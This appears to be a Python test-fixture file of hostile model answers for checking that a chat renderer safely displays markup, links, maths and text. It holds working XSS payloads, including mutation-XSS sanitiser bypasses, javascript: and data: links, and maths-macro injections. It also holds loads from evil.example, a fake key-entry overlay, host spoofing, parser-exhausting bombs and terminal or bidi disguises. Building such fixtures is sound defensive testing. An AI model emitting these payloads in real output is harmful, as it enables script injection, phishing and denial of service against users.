"""Answers that no model should give, and that a page must bear.

Each would, if it were believed, set `window.hacked`, open a dialog, load something from
evil.example, cover the page, or keep it busy for long.
"""

__all__ = ["BOMBS", "DISGUISES", "LINKS", "MARKUP", "MATHS", "hostile_answers"]

RUN = "window.hacked=1;alert(1)"
GET = "https://evil.example/x"

# Markup that runs or loads something, as a document or through the mistakes of sanitisers.
MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script of elsewhere": f'<script src="{GET}.js"></script>',
    "image that fails": f'<img src=x onerror="{RUN}">',
    "image of elsewhere": f'<img src="{GET}.png"><picture><source srcset="{GET}.webp"></picture>',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><use href="{GET}#a"/></svg>',
    "svg animation": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>',
    "foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "frame": f'<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src="{GET}.swf">',
    "style sheet": f'<link rel=stylesheet href="{GET}.css"><style>@import "{GET}.css";*{{display:none}}</style>',
    "base": '<base href="https://evil.example/"><a href="#">x</a>',
    "refresh": f'<meta http-equiv=refresh content="0;url={GET}">',
    "form": f'<form action="{GET}"><input autofocus onfocus="{RUN}"><button>Send</button></form>',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "media": f'<video src=x onerror="{RUN}"><source onerror="{RUN}"></video><audio src="{GET}.mp3" autoplay>',
    "overlay": f'<div style="position:fixed;inset:0;background:url({GET}.png);z-index:9999">Enter your key</div>',
    "clobbering": '<form id="composer"><input name="parentNode"><input id="page"></form><a id="page"></a>',
    "template": f"<template><script>{RUN}</script></template><slot></slot>{{{{constructor.constructor('{RUN}')()}}}}",
    "mutation by table": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation by noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    "mutation by svg": f"<svg></p><style><a id=\"</style><img src=1 onerror='{RUN}'>\">",
    "mutation by form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror='{RUN}'>",
    "mutation by comment": f"<!--><img src=x onerror='{RUN}'>--><![CDATA[><img src=x onerror='{RUN}'>]]>",
    "half a tag": f"<img src=x onerror='{RUN}' ",
}

# Addresses that are none, or not what they look like.
LINKS = {
    "javascript": f"[click](javascript:{RUN})",
    "javascript in entities": f"[click](&#106;ava&#x73;cript:{RUN})",
    "javascript in pieces": f"[click](java\tscript:{RUN}) [click](<java\nscript:{RUN}>)",
    "javascript with a control": f"[click](\x01javascript:{RUN}) [click](JaVaScRiPt:{RUN})",
    "javascript as an address": f"<javascript:{RUN}> and <a href='javascript:{RUN}'>click</a>",
    "javascript by reference": f"[click][a] and ![click][a]\n\n[a]: javascript:{RUN}",
    "data": f"[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [c](data:text/html,<script>{RUN}</script>)",
    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://evil.example/x) [d](intent://x) [e](ftp://x)",
    "a title": f'[click](https://a.example "\\" onmouseover=\\"{RUN}")',
    "no scheme": "[click](//evil.example/x) [click](\\\\evil.example/x) [click](/\\evil.example)",
    "another host": "[https://bank.example](https://bank.example@evil.example/) https://bаnk.example",
    "images": f"![a]({GET}.png) ![b](javascript:{RUN}) ![c](data:image/svg+xml,<svg onload='{RUN}'>)",
    "an image in a link": f"[![a]({GET}.png)](javascript:{RUN})",
}

MATHS = {
    "maths with links": f"$\\href{{javascript:{RUN}}}{{x}} \\url{{javascript:{RUN}}}$",
    "maths with images": f"$\\includegraphics{{{GET}.png}} \\class{{a}}{{b}} \\style{{color:red}}{{b}}$",
    "maths with html": f'$\\htmlData{{a=1}}{{x}} \\htmlStyle{{position:fixed}}{{x}} \\htmlId{{page}}{{x}} <img src=x onerror="{RUN}">$',
    "maths with text": f'$\\text{{<img src=x onerror="{RUN}">}}$ $$\\unicode{{x}}</math><script>{RUN}</script>$$',
    "maths that explodes": "$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$",
    "maths without end": "$\\def\\a{\\a x}\\a$ $\\newcommand{\\q}{\\q\\q}\\q$",
    "maths that is deep": "$" + "\\frac{1}{" * 400 + "x" + "}" * 400 + "$",
    "maths that is huge": "$\\rule{99999em}{99999em} \\kern9999999em \\Huge{x}\\raisebox{9999em}{y}$",
    "much maths": " ".join(f"$x_{{{i}}}^2$" for i in range(300)),
}

# What is long, deep or slow to read.
BOMBS = {
    "quotes": ">" * 10_000 + " deep",
    "quotes over lines": "\n".join("> " * (i % 120) + "x" for i in range(200)),
    "lists": "\n".join("  " * i + "- x" for i in range(150)),
    "brackets": "[" * 20_000 + "]" * 20_000,
    "links in links": "[a](" * 5_000 + ")" * 5_000,
    "images in images": "![" * 5_000 + "](x)" * 5_000,
    "emphasis": "*a_ **b__ " * 4_000,
    "stars": "*" * 20_000 + "a" + "*" * 20_000,
    "backticks": "`" * 9_999 + " x " + "".join("`" * i + " " for i in range(140)),
    "entities": "&" * 20_000 + "&amp" * 4_000,
    "a table": "|" + "a|" * 60 + "\n|" + "-|" * 60 + "\n" + ("|" + "b|" * 60 + "\n") * 250,
    "a ragged table": "|a|\n|-|\n" + "|" * 20_000 + "\n|b" * 300,
    "a fence without end": "```python\nprint('<script>alert(1)</script>')\n" * 3,
    "a fence of markup": f'```"><img src=x onerror="{RUN}">\nx\n```\n\n~~~js {{onload={RUN}}}\nx\n~~~',
    "code without end": "```javascript\n" + "/(" * 10_000 + "`${" * 3_000,
    "markup as code": "```xml\n" + "<a b='" * 6_000,
    "one long line": "a" * 40_000,
    "many lines": "x\n\n" * 8_000,
    "html without end": "<div " * 8_000 + "<!--" * 2_000,
    "headings": "\n".join("#" * (1 + i % 6) + f" h{i}" for i in range(1_500)),
    "references": "\n".join(f"[{i}]: https://a.example/{i}" for i in range(1_500)) + "\n\n[1][1]",
}

DISGUISES = {
    "terminal codes": "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "writing backwards": "safe \u202e\u2066gnp.exe\u2069 \u202d\u2067abc\u061c [a\u202eb](https://a.example)",
    "invisible characters": "a\u200b\u200d\u2060\ufeff\u00ad\U000e0041\U000e0042b" * 50,
    "marks on marks": "Z" + "\u0300\u0301\u0489\u0336" * 400 + "algo",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x85\u2028\u2029" + "\ufffe\uffff",
    "families": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 500,
}


def hostile_answers() -> dict[str, str]:
    """All of them, by name."""
    return {**MARKUP, **LINKS, **MATHS, **DISGUISES, **BOMBS}
